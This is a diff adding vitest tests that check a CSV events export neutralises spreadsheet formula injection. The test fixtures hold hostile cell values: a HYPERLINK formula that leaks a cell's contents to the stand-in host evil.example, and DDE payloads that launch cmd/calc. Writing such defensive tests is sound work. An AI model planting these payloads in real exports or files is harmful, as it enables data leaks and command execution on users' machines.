@@ -2,7 +2,9 @@ import { describe, expect, it } from 'vitest';
 import { csvParse } from 'd3';
 import { buildBriefingExport } from '../../../src/model/exports/briefing-json.ts';
 import { EVENT_COLUMNS, eventRows, eventsCsv, eventsGeojson, formatCsv } from '../../../src/model/exports/events.ts';
-import { awkward, bravo, lookups, site } from '../../helpers/sample-exports.ts';
+import { briefingSchema } from '../../../src/schemas/briefing.ts';
+import { actorSchema } from '../../../src/schemas/actor.ts';
+import { awkward, awkwardInput, bravo, lookups, site } from '../../helpers/sample-exports.ts';
 
 const exported = () => [buildBriefingExport(bravo(), lookups(), site), buildBriefingExport(awkward(), lookups(), site)];
 
@@ -54,6 +56,50 @@ describe('the events CSV', () => {
     expect(formatCsv([['a', 'b'], ['x, y', 'say "hi"'], [null, 3]])).toBe('a,b\r\n"x, y","say ""hi"""\r\n,3\r\n');
     expect(eventsCsv([]).charCodeAt(0)).toBe('e'.charCodeAt(0));
     expect(eventsCsv([])).toBe(`${EVENT_COLUMNS.join(',')}\r\n`);
+  });
+});
+
+describe('the events CSV opened in a spreadsheet', () => {
+  const LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+  /** `awkward` with a formula, or something a spreadsheet reads as one, in every text column an author fills. */
+  function hostile() {
+    const input = awkwardInput();
+    input.title = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+    input.historicalContext![0] = { ...input.historicalContext![0]!, title: LEAK, place: { name: '+1+cmd|\' /C calc\'!A0', country: 'NE', lat: 17.5, lon: -8.07 } };
+    input.historicalContext![2] = { ...input.historicalContext![2]!, title: '\t=1+2', place: { name: '\r=3+4', country: 'NE' } };
+    input.sources = input.sources.map((s, i) => ({ ...s, publisher: ['-2+3', '=cmd'][i]! }));
+    const lookup = lookups();
+    lookup.actors.set('black-flag', { data: actorSchema.parse({ name: '=1+1', kind: 'militia' }) });
+    return eventsCsv(eventRows([buildBriefingExport({ id: 'awkward', data: briefingSchema.parse(input) }, lookup, site)]));
+  }
+
+  it('neutralises text cells that start with = + - @ tab or CR with a leading quote', () => {
+    const rows = csvParse(hostile());
+    const clash = rows.find((r) => r.event_id === 'awkward-event-1')!;
+    expect(clash.notes).toBe(`'${LEAK}`);
+    expect(clash.location).toBe("'+1+cmd|' /C calc'!A0");
+    expect(clash.actor1).toBe("'=1+1");
+    expect(clash.actors).toBe("'=1+1; Night Militia; Blue Army");
+    expect(clash.source).toBe("'-2+3; =cmd");
+    expect(clash.briefing).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    const protest = rows.find((r) => r.event_id === 'awkward-event-3')!;
+    expect(protest.notes).toBe("'\t=1+2");
+    expect(protest.location).toBe("'\r=3+4");
+    // Nothing a spreadsheet would evaluate is left in any cell but plain numbers.
+    const cells = rows.flatMap((row) => EVENT_COLUMNS.map((column) => row[column]!)).filter((cell) => !/^-?\d+(?:\.\d+)?$/.test(cell));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
+  it('keeps numbers, negative ones included, as numbers', () => {
+    const clash = csvParse(hostile()).find((r) => r.event_id === 'awkward-event-1')!;
+    expect([clash.latitude, clash.longitude, clash.fatalities, clash.year]).toEqual(['17.5', '-8.07', '0', '2024']);
+    expect(Number(clash.longitude)).toBe(-8.07);
+    expect(hostile()).toContain(',17.5,-8.07,0,0,');
+  });
+
+  it('quotes every neutralised cell and leaves ordinary text as it was', () => {
+    expect(formatCsv([['=1+1', '-8.07', -8.07, 'a-b', 'x = y', "it's"]])).toBe(`"'=1+1","'-8.07",-8.07,a-b,x = y,it's\r\n`);
+    expect(eventsCsv(eventRows(exported()))).not.toContain("'");
   });
 });
 
